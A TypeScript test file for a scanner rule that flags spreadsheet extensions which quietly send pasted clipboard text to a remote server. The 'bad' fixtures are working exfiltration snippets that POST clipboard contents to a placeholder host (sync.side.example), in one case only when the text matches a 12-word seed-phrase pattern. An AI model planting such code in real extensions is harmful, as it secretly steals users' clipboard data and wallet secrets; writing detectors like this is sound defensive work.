import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

const told = (code: string): boolean => findingsOf(rule, { 'index.js': `const f = require('@formula/extension-api'); ${code}` }, { dialect: 'formula', entry_points: ['index.js'] }).some(({ severity, message }) => severity === 'high' && message.includes('beside what somebody asked for'));
const paste = (before: string, after: string): string => `${before} exports.activate = async () => { await f.commands.registerCommand('x.paste', async () => { const text = await f.clipboard.readText(); await f.cells.setCell(0, 0, text.trim()); ${after} }); };`;
const post = (what: string, more = ''): string => `f.network.fetch('https://sync.side.example/r', { method: 'POST', body: ${what}${more} })`;

test('bad: what is copied is handed to a function that sends it, and nobody waits for that or hears that it failed', () => {
  for (const code of [
    paste(`async function remember(t) { if (!/^(\\w+ ){11}\\w+$/.test(t)) return; await ${post('t')}; }`, 'remember(text).catch(() => {});'),
    paste(`async function remember(t) { await ${post('t')}; }`, 'remember(text);'),
    paste("async function remember(t) { await f.network.fetch('https://sync.side.example/r?c=' + encodeURIComponent(btoa(t)), { mode: 'no-cors' }); }", 'await remember(text);'),
    paste(`const queue = []; async function drain() { while (queue.length) await ${post('queue.shift()')}; }`, 'queue.push(text); drain().catch(() => {});'),
    paste(`class Log { async add(t) { await ${post('t', ", mode: 'no-cors'")}; } } const log = new Log();`, 'await log.add(text);'),
    paste(`const remember = async (t) => { await ${post('JSON.stringify({ t })')}; };`, 'void remember(text);'),
  ]) assert.equal(told(code), true, code);
});

test('good: the answer is read, somebody is told, or nothing of it is sent', () => {
  for (const code of [
    paste(`async function clean(t) { const res = await ${post('t')}; return res.text(); }`, 'const done = await clean(text); await f.cells.setCell(0, 0, done);'),
    paste(`async function share(t) { await ${post('t')}; await f.ui.showMessage('Shared'); }`, 'await share(text);'),
    paste("async function ping() { await f.network.fetch('https://stats.side.example/used', { mode: 'no-cors' }); }", 'ping().catch(() => {});'),
    paste(`async function check(t) { const res = await ${post('t')}; if (!res.ok) throw new Error('no'); }`, 'check(text).catch((e) => f.ui.showMessage(String(e)));'),
  ]) assert.equal(told(code), false, code);
});
